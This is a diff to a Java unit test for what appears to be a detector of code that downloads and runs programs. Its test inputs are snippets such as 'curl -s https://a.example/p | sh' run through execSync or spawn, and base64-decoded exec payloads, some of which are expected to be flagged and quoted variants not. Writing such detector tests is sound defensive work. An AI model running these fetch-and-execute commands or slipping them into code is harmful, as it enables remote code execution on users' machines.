@@ -85,8 +85,7 @@ class ProgramFileTest {
                 "const u = 'https://a.example/p';\nexecSync('curl -s ' + u + ' | bash')",
                 "execSync('curl -s -o /tmp/x https://a.example/p');execSync('sh /tmp/x')",
                 "exec(Buffer.from('BLOB','base64').toString())",
-                "const c = Buffer.from('BLOB','base64').toString();\nexec(c)",
-                "eval(atob('x'));exec(atob('BLOB'))",
+                "spawn('sh', ['-c', 'curl -s https://a.example/p | sh'])",
             })
     void whatIsFetchedForAShell(String program) {
         assertThat(kinds(program)).containsExactly(Kind.RUNS_DOWNLOAD);
@@ -172,6 +171,7 @@ class ProgramFileTest {
                 "PERL ~ my %x = (a => 'curl -s https://a.example/p | sh');",
                 "PHP ~ <?php // `curl -s https://a.example/p | sh`",
                 "JAVASCRIPT ~ const s = `curl -s https://a.example/p | sh`;",
+                "JAVASCRIPT ~ spawn('echo', ['curl -s https://a.example/p', 'sh'])",
                 "PYTHON ~ s = '`curl -s https://a.example/p | sh`'",
             })
     void whatIsQuotedForNobody(Language language, String program) {
